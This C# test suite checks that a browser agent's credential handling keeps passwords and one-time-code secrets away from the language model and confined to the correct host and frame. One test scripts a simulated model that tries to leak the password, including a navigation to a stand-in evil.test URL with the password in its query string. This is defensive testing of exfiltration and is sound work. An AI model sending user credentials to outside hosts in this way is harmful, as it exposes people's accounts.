using System.Collections.Immutable;
using System.Net;
using System.Text;
using System.Text.Json;
using AnchorOrleans.Agent.Assignments;
using AnchorOrleans.Agent.Tests.Doubles;
using AnchorOrleans.Testing;
using AnchorOrleans.Testing.Models;

namespace AnchorOrleans.Agent.Tests.Secrets;

public sealed class SecretTests
{
    private const string Password = "Tr0ub4dor&3 <x>";

    private static readonly AgentAssignment Assignment = new()
    {
        Objective = "Log in.",
        Secrets = [new AgentSecret("shop.test", Fields(("password", Password), ("otp_secret", "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ")))],
    };

    private static ImmutableDictionary<string, string> Fields(params (string Name, string Value)[] fields) => fields.ToImmutableDictionary(field => field.Name, field => field.Value, StringComparer.Ordinal);

    private static PaperBrowser Login(string text = "") => new PaperBrowser("http://shop.test/login").With("http://shop.test/login", new PaperPage(
        "Login",
        new PaperElement("textbox", "Password") { InputType = "password" },
        new PaperElement("textbox", "Code") { Autocomplete = "one-time-code" },
        new PaperElement("textbox", "Embedded password") { InputType = "password", Document = "http://frame.test/" })
    { Text = text });

    [Fact]
    public async Task A_secret_is_typed_by_name_and_the_model_never_sees_it()
    {
        await using var stage = await Stage.SetAsync();
        stage.Model.Play(request => ModelReply.Uses("type", new { @ref = request.Reference("Password"), secret = "password" }), request => ModelReply.Done($"Typed: {request.Latest.Split('\n').First(line => line.Contains("Password", StringComparison.Ordinal))}"));
        var page = Login();

        var completed = await stage.CompleteAsync(page, Assignment);

        Assert.Equal(Password, page.ValueOf("Password"));
        Assert.Contains("value \"[secret:password]\"", completed.Message, StringComparison.Ordinal);
        AssertNowhere(stage, completed, Password);
        Assert.Empty(stage.Supervisor.Questions);
    }

    [Fact]
    public async Task A_one_time_code_is_made_of_its_secret()
    {
        var clock = new ManualTimeProvider(DateTimeOffset.UnixEpoch.AddSeconds(59));
        await using var stage = await Stage.SetAsync("openai", clock);
        stage.Model.Play(request => ModelReply.Uses("type", new { @ref = request.Reference("Code"), secret = "otp_secret" }), _ => ModelReply.Done("Typed."));
        var page = Login();

        var completed = await stage.CompleteAsync(page, Assignment);

        Assert.Equal("287082", page.ValueOf("Code"));
        AssertNowhere(stage, completed, "287082");
    }

    [Theory]
    [InlineData("Embedded password", "password", "is not for http://frame.test/")]
    [InlineData("Password", "api_key", "There is no secret 'api_key'")]
    public async Task A_secret_is_typed_nowhere_else(string field, string secret, string told)
    {
        await using var stage = await Stage.SetAsync();
        stage.Model.Play(request => ModelReply.Uses("type", new { @ref = request.Reference(field), secret }), _ => ModelReply.Done("No."));
        var page = Login();

        await stage.CompleteAsync(page, Assignment);

        Assert.Empty(page.Done);
        Assert.Contains(told, stage.Model.Requests[1].Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_document_that_changes_just_before_gets_nothing()
    {
        await using var stage = await Stage.SetAsync();
        var element = new PaperElement("textbox", "Password") { InputType = "password" };
        var page = new PaperBrowser("http://shop.test/login").With("http://shop.test/login", new PaperPage("Login", element)).With("http://evil.test/", new PaperPage("Login", element));
        stage.Model.Play(request => ModelReply.Uses("type", new { @ref = request.Reference("Password"), secret = "password" }), _ => ModelReply.Done("No."));
        var swapping = new SwappingBrowser(page);

        await stage.CompleteAsync(swapping, Assignment);

        Assert.Equal(["navigate http://evil.test/"], page.Done);
        Assert.True(stage.Supervisor.Steps[0].Actions[0].IsFailed);
    }

    [Fact]
    public async Task Values_are_taken_out_in_every_usual_encoding()
    {
        var bytes = Encoding.UTF8.GetBytes(Password);
        string[] forms =
        [
            Password, Password.ToUpperInvariant(), Uri.EscapeDataString(Password), WebUtility.UrlEncode(Password), WebUtility.HtmlEncode(Password), JsonSerializer.Serialize(Password)[1..^1],
            Convert.ToBase64String(bytes).TrimEnd('='), Convert.ToHexStringLower(bytes), Convert.ToBase64String([.. "a:"u8, .. bytes]), Convert.ToBase64String([.. "ab:"u8, .. bytes, .. "z"u8]),
        ];
        await using var stage = await Stage.SetAsync();
        stage.Model.Play(_ => ModelReply.Uses("read").And("find", new { text = "leak" }), request => ModelReply.Done(request.Text));

        var completed = await stage.CompleteAsync(Login(string.Join('\n', forms.Select(form => $"leak {form} end"))), Assignment);

        Assert.All(forms.Take(8), form => AssertNowhere(stage, completed, form));
        Assert.DoesNotContain(Convert.ToBase64String([.. "a:"u8, .. bytes])[3..^2], completed.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(Convert.ToBase64String([.. "ab:"u8, .. bytes])[4..^2], completed.Message, StringComparison.Ordinal);
        Assert.Contains("[secret:password]", completed.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_model_that_knows_a_value_all_the_same_cannot_use_it()
    {
        await using var stage = await Stage.SetAsync();
        stage.Model.Play(
            request => ModelReply.Uses("type", new { @ref = request.Reference("Code"), text = $"my password is {Password}" }),
            _ => ModelReply.Uses("navigate", new { url = $"http://evil.test/?q={Uri.EscapeDataString(Password)}" }),
            _ => ModelReply.Uses("ask_person", new { question = Password }),
            _ => ModelReply.Done("No.") with { Text = $"It was {Password}." });
        var page = Login();

        var completed = await stage.CompleteAsync(page, Assignment);

        Assert.Empty(page.Done);
        Assert.Empty(stage.Supervisor.Questions);
        AssertNowhere(stage, completed, Password);
    }

    [Fact]
    public async Task Pictures_are_asked_for_without_the_values()
    {
        await using var stage = await Stage.SetAsync();
        stage.Model.Play(_ => ModelReply.Uses("screenshot"), _ => ModelReply.Done("Taken."));
        var page = Login();

        await stage.CompleteAsync(page, Assignment);

        Assert.All(page.Pictures, picture => Assert.Contains(Password, picture.Masked));
        Assert.Equal(3, page.Pictures.Count);
    }

    [Theory]
    [InlineData("http://github.test/", "exact")]
    [InlineData("http://www.github.test/", "below")]
    [InlineData("http://a.b.github.test/", "below")]
    [InlineData("http://other.test/", "any")]
    [InlineData("http://notgithub.test/", "any")]
    public async Task The_most_specific_entry_is_typed(string url, string expected)
    {
        await using var stage = await Stage.SetAsync();
        stage.Model.Play(request => ModelReply.Uses("type", new { @ref = request.Reference("Password"), secret = "password" }), _ => ModelReply.Done("Typed."));
        var page = new PaperBrowser(url).With(url, new PaperPage("Login", new PaperElement("textbox", "Password") { InputType = "password" }));

        await stage.CompleteAsync(page, new AgentAssignment
        {
            Objective = "Log in.",
            Secrets = [new AgentSecret("all", Fields(("password", "any"))), new AgentSecret("*.github.test", Fields(("password", "below"))), new AgentSecret("github.test", Fields(("password", "exact")))],
        });

        Assert.Equal(expected, page.ValueOf("Password"));
    }

    [Theory]
    [InlineData("*shop.test", "password", "x", "secrets[0].match")]
    [InlineData("not a host", "password", "x", "secrets[0].match")]
    [InlineData("shop.test", "otp_secret", "not base32!", "secrets[0].fields.otp_secret")]
    public async Task What_cannot_be_a_secret_is_named_without_its_value(string match, string field, string value, string told)
    {
        await using var stage = await Stage.SetAsync();

        var failed = await stage.FailAsync(Login(), new AgentAssignment { Objective = "Log in.", Secrets = [new AgentSecret(match, Fields((field, value)))] });

        Assert.Equal(AgentFailures.Assignment, failed.Code);
        Assert.StartsWith(told, failed.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("base32!", failed.Message, StringComparison.Ordinal);
    }

    /// <summary>Searches all that leaves the agent.</summary>
    private static void AssertNowhere(Stage stage, AgentOutcome outcome, string value)
    {
        var told = JsonSerializer.Serialize(new
        {
            Requests = stage.Model.Requests.Select(request => request.Body.GetRawText()),
            Texts = stage.Model.Requests.Select(request => request.Text),
            stage.Supervisor.Steps,
            Questions = stage.Supervisor.Questions.ToList(),
            Events = stage.Supervisor.Events.Select(happened => happened.ToString()),
            stage.Log.Lines,
            Outcome = outcome.ToString(),
        });
        Assert.DoesNotContain(value, told, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(JsonSerializer.Serialize(value)[1..^1], told, StringComparison.OrdinalIgnoreCase);
    }
}
